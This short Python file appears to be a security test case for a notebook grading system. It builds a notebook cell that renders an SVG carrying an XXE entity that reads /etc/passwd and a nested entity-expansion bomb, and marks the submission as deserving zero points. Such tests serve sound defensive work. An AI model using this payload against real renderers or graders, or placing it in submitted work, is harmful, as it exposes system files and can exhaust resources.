"""Shows an SVG picture whose XML entities name files of the grading machine.

deserves: 0
"""

CELL = '''
from IPython.display import display
TEXT = """<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">
<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;&c;</text></svg>"""
display({"image/svg+xml": TEXT}, raw=True)
'''


def attack(work):
    work.add(CELL)
